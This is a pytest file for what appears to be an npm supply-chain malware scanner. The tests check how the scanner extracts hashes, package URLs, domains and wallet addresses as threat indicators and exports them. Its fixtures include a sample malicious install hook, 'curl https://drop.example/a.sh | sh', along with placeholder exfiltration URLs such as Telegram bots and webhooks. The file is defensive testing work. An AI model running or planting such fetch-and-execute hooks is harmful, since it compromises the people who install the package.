from __future__ import annotations

import json
from typing import Any

import pytest
import stix2

from npmguard.errors import IndicatorError
from npmguard.intel.found import found_indicators, latest_day
from npmguard.intel.indicators import Format, format_indicators, parse_indicators
from npmguard.model import IndicatorKind
from tests.fixture_addresses import burn_address

WALLET = burn_address("eth", 0xA1)
FINDING = {"rule": "address-swap-in-network-hook", "severity": "critical", "evidence": []}


def package(name: str = "@scope/a", version: str = "1.2.3", **fields: Any) -> dict[str, Any]:
    specimen = {
        "published": "2025-09-08T13:16:00+00:00",
        "sha512": "ab" * 64,
        "sha256": "cd" * 32,
        "files": [{"path": "index.js", "sha256": "ef" * 32, "names": []}],
    }
    base = {
        "name": name,
        "version": version,
        "verdict": "malicious",
        "findings": [FINDING],
        "specimen": specimen,
    }
    return {**base, **fields}


def naming(*names: str) -> dict[str, Any]:
    """A malicious package whose flagged file holds *names*."""
    return package(
        specimen={
            "published": "2025-09-08T00:00:00+00:00",
            "files": [{"path": "index.js", "sha256": "ef" * 32, "names": list(names)}],
        }
    )


def report(*packages: dict[str, Any], kind: str = "lockfile") -> bytes:
    document = {"schema": "npmguard.report/1", "target": {"kind": kind}, "packages": packages}
    return json.dumps(document).encode()


def values(document: bytes, **options: Any) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for indicator in found_indicators(document, **options):
        found.setdefault(str(indicator.kind), []).append(indicator.value)
    return found


def test_a_malicious_package_is_known_by_its_version_tarball_and_files() -> None:
    assert values(report(package())) == {
        "purl": ["pkg:npm/%40scope/a@1.2.3"],
        "sha512": ["ab" * 64],
        "sha256": ["cd" * 32, "ef" * 32],
    }


def test_what_its_code_names_comes_with_the_host_of_each_url() -> None:
    document = report(naming(WALLET, "https://drop.example/x?y=1", "wss://socket.example/", "c2.example"))
    found = values(document)
    assert found["address"] == [WALLET]
    assert found["url"] == ["https://drop.example/x?y=1"]
    assert found["domain"] == ["c2.example", "drop.example", "socket.example"]


@pytest.mark.parametrize(
    "name",
    [
        "https://registry.npmjs.org/left-pad",
        "https://api.github.com/user/repos",
        "https://github.com/someone/project/issues",
        "https://github.com/",
        "https://www.w3.org/2000/svg",
        "https://eth-mainnet.infura.io/v3/key",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:3000/x",
        "127.0.0.1",
        "10.1.2.3",
        "nodejs.org",
        "0x0000000000000000000000000000000000000000",
        "0x7A250D5630B4CF539739DF2C5DACB4C659F2488D",
        "TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA",
        "not a value",
    ],
)
def test_what_is_everybody_s_is_no_indicator(name: str) -> None:
    assert values(report(naming(name))).keys() == {"purl", "sha256"}


@pytest.mark.parametrize(
    "url",
    [
        "https://api.telegram.org/bot0:token/sendMessage",
        "https://discord.com/api/webhooks/1/token",
        "https://raw.githubusercontent.com/someone/drop/main/a.sh",
        "https://github.com/someone/drop/releases/download/1/a.tgz",
        "https://webhook.site/00000000-0000",
        "https://pastebin.com/raw/abcdef",
    ],
)
def test_on_a_shared_host_the_place_counts_and_not_the_host(url: str) -> None:
    found = values(report(naming(url)))
    assert found["url"] == [url]
    assert "domain" not in found


def test_a_host_below_a_hosting_service_is_somebody_s_own() -> None:
    assert values(report(naming("https://drop.workers.dev/x")))["domain"] == ["drop.workers.dev"]


def test_urls_of_evidence_count_unless_they_are_cut() -> None:
    evidence = [
        {"excerpt": "postinstall: curl https://drop.example/a.sh | sh", "decoded": "https://cut.example/ab…"}
    ]
    found = values(report(package(findings=[{**FINDING, "evidence": evidence}])))
    assert found["url"] == ["https://drop.example/a.sh"]
    assert found["domain"] == ["drop.example"]


def test_clean_and_unverified_packages_give_nothing_and_suspicious_ones_on_demand() -> None:
    packages = [package(verdict=verdict) for verdict in ("clean", "unverified", "suspicious")]
    assert values(report(*packages)) == {}
    assert found_indicators(report(*packages), suspicious=True)[0].description.startswith(
        "@scope/a@1.2.3 (suspicious"
    )


def test_a_note_on_a_malicious_package_names_nothing() -> None:
    note = {"rule": "note", "severity": "low", "evidence": [{"excerpt": "see https://blog.example/post"}]}
    assert "url" not in values(report(package(findings=[FINDING, note])))


def test_a_release_that_is_only_young_is_no_attack() -> None:
    young = package(verdict="suspicious", findings=[{"rule": "too-young", "severity": "high"}])
    assert values(report(young), suspicious=True) == {}


def test_bytes_that_were_changed_on_their_way_do_not_accuse_the_version() -> None:
    swapped = package(findings=[{"rule": "integrity-mismatch", "severity": "critical"}])
    assert values(report(swapped)).keys() == {"sha512", "sha256"}


def test_a_tarball_of_this_machine_does_not_accuse_the_version_that_it_claims_to_be() -> None:
    assert "purl" not in values(report(package(), kind="tarball"))


def test_dates_are_the_registry_s_and_the_earliest_counts() -> None:
    later = package(version="1.2.4")
    later["specimen"] = {**later["specimen"], "published": "2025-09-10T00:00:00+00:00"}
    found = {it.value: it.date for it in found_indicators(report(later, package()))}
    assert found["pkg:npm/%40scope/a@1.2.4"] == "2025-09-10"
    assert found["ef" * 32] == "2025-09-08"
    assert latest_day(found_indicators(report(later, package()))) == "2025-09-10T00:00:00Z"
    assert latest_day(()) is None


@pytest.mark.parametrize("form", ["stix", "misp", "csv"])
def test_what_is_written_is_read_back_and_the_same_each_time(form: Format) -> None:
    document = report(
        naming(WALLET, "https://drop.example/x", "192.0.2.7", "https://[2001:db8::7]/x"), package("b", "2.0.0")
    )
    found = found_indicators(document, source="incident team")
    text = format_indicators(found, form, created=latest_day(found) or "")
    assert parse_indicators(text) == found
    assert text == format_indicators(
        found_indicators(document, source="incident team"), form, created="2025-09-08T00:00:00Z"
    )


def test_stix_is_what_its_library_reads() -> None:
    found = found_indicators(report(package()))
    bundle = stix2.parse(format_indicators(found, "stix", created="2025-09-08T00:00:00Z"))
    patterns = [item.pattern for item in bundle.objects if item.type == "indicator"]
    assert f"[file:hashes.'SHA-512' = '{'ab' * 64}']" in patterns


@pytest.mark.parametrize(
    "document", [b"", b"[]", b'{"schema": "other/1", "packages": []}', b"\xff", b"[" * 9999]
)
def test_what_is_no_report_is_refused_in_one_line(document: bytes) -> None:
    with pytest.raises(IndicatorError, match="no report of npmguard scan --format json") as caught:
        found_indicators(document)
    assert "\n" not in str(caught.value)


def test_hashes_of_tarballs_have_a_kind_of_their_own() -> None:
    (found,) = parse_indicators("ab" * 64)
    assert found.kind is IndicatorKind.SHA512
